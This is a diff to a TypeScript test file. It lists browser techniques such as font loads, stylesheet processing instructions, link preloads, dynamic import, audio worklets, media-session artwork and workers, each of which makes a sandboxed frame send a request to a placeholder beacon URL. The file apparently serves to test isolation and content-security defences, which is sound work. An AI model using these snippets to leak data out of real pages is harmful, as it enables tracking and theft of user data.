@@ -1,7 +1,7 @@
 /** An attack that tries to send something out of the frame. */
 export interface WayOut {
   readonly name: string;
-  /** Code; `URL` is an address of the beacon server, `STUN` a list of STUN servers that note what they get. */
+  /** Code; `URL` is an address that notes each connection to it, `STUN` a list of STUN servers that note what they get. */
   readonly code: string;
   /** Its control runs in a page of its own, since it would carry away the page that runs the tests or needs a whole page. */
   readonly alone?: boolean;
@@ -53,14 +53,29 @@ export const httpWaysOut: readonly WayOut[] = [
       style("`@font-face { font-family: f; src: url(${URL}) } body { font-family: f }`") +
       "document.body.append('text');",
   },
+  { name: "font of a script", code: "await new FontFace('f', `url(${URL})`).load();" },
+  {
+    name: "style sheet of an instruction",
+    code: `const instruction = document.createProcessingInstruction("xml-stylesheet", \`type="text/css" href="\${URL}"\`); document.insertBefore(instruction, document.documentElement);`,
+  },
   { name: "style sheet", code: append("link", "{ rel: 'stylesheet', href: URL }", "head") },
   { name: "prefetch", code: append("link", "{ rel: 'prefetch', href: URL }", "head") },
   { name: "preload", code: append("link", "{ rel: 'preload', as: 'image', href: URL }", "head") },
+  ...["fetch", "font", "script", "style", "track"].map((as) => ({
+    name: `preload of a ${as}`,
+    code: append("link", `{ rel: "preload", as: "${as}", crossOrigin: "anonymous", href: URL }`, "head"),
+  })),
   { name: "module preload", code: append("link", "{ rel: 'modulepreload', href: URL }", "head") },
   { name: "icon", code: append("link", "{ rel: 'icon', href: URL }", "head"), alone: true },
   { name: "manifest", code: append("link", "{ rel: 'manifest', href: URL }", "head"), alone: true },
   { name: "script", code: append("script", "{ src: URL }") },
   { name: "import()", code: "await import(URL);" },
+  { name: "import() of JSON", code: "await import(URL, { with: { type: 'json' } });" },
+  { name: "worklet", code: "await new AudioContext().audioWorklet.addModule(URL);" },
+  {
+    name: "artwork",
+    code: "navigator.mediaSession.metadata = new MediaMetadata({ artwork: [{ src: URL, sizes: '96x96' }] });",
+  },
   { name: "worker", code: "new Worker(self.URL.createObjectURL(new Blob([`fetch('${URL}')`])));" },
   {
     name: "shared worker",
